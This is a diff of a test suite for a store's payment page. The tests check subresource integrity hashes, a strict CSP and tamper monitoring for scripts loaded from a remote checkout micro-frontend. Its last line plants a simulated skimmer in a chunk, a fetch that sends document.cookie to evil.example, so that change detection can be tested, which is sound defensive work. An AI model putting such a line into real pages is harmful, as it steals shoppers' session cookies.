@@ -49,7 +49,10 @@ describe.each(testDatabases)('the payment page with its remote on another origin
     root = fakeStoreRoot({ checkout: checkoutBuild });
     // the exposed page's chunk imports another one the manifest does not name: found by following imports
     mkdirSync(join(root, 'checkout-mfe', 'dist', 'assets'), { recursive: true });
-    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'PaymentPage-abc.js'), 'import { x } from "./chunk-def.js";\nexport default x;\n');
+    // (the minifier writes some with backquotes; Vite's preload helper names others from the remote's base)
+    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'PaymentPage-abc.js'), 'import { x } from "./chunk-def.js";\nconst deps = ["assets/preloaded-jkl.js"];\nexport const later = () => import(`./lazy-ghi.js`);\nexport default x;\n');
+    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'lazy-ghi.js'), 'export const lazy = 1;\n');
+    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'preloaded-jkl.js'), 'export const preloaded = 1;\n');
     writeFileSync(chunkFile(), 'export const x = 1;\n');
     const shellDist = join(root, 'shell', 'dist');
     mkdirSync(join(shellDist, 'assets'), { recursive: true });
@@ -86,14 +89,16 @@ describe.each(testDatabases)('the payment page with its remote on another origin
     expect(csp).not.toContain('unsafe-inline');
     const map = JSON.parse(/<script type="importmap" nonce="[^"]+">([^<]+)<\/script>/.exec(res.body)![1]!).integrity as Record<string, string>;
     const dist = join(root, 'checkout-mfe', 'dist');
-    for (const file of ['remoteEntry.js', 'assets/PaymentPage-abc.js', 'assets/chunk-def.js']) expect(map[`${cdn.url}/checkout/${file}`], file).toBe(sha384(readFileSync(join(dist, file))));
+    for (const file of ['remoteEntry.js', 'assets/PaymentPage-abc.js', 'assets/chunk-def.js', 'assets/lazy-ghi.js', 'assets/preloaded-jkl.js']) expect(map[`${cdn.url}/checkout/${file}`], file).toBe(sha384(readFileSync(join(dist, file))));
     // a page other than the payment page keeps the store's ordinary policy
     expect((await t.app.inject({ method: 'GET', url: '/cart' })).headers['content-security-policy']).not.toContain('default-src');
   });
 
   it('lists those scripts for the owner and checks them on their origin: a chunk changed there is named', async () => {
     const list = (await t.app.inject({ method: 'GET', url: '/api/admin/payment-scripts', headers: { authorization: `Bearer ${admin}` } })).json().data.scripts as { url: string; remote: string }[];
-    expect(list.filter((s) => s.remote === 'checkout').map((s) => s.url).sort()).toEqual([`${cdn.url}/checkout/assets/PaymentPage-abc.js`, `${cdn.url}/checkout/assets/chunk-def.js`, `${cdn.url}/checkout/remoteEntry.js`]);
+    expect(list.filter((s) => s.remote === 'checkout').map((s) => s.url).sort()).toEqual(
+      ['assets/PaymentPage-abc.js', 'assets/chunk-def.js', 'assets/lazy-ghi.js', 'assets/preloaded-jkl.js', 'remoteEntry.js'].map((f) => `${cdn.url}/checkout/${f}`),
+    );
     expect((await checkNow()).differences).toEqual([]);
     const original = readFileSync(chunkFile());
     writeFileSync(chunkFile(), 'export const x = 1; fetch("//evil.example/" + document.cookie);\n');
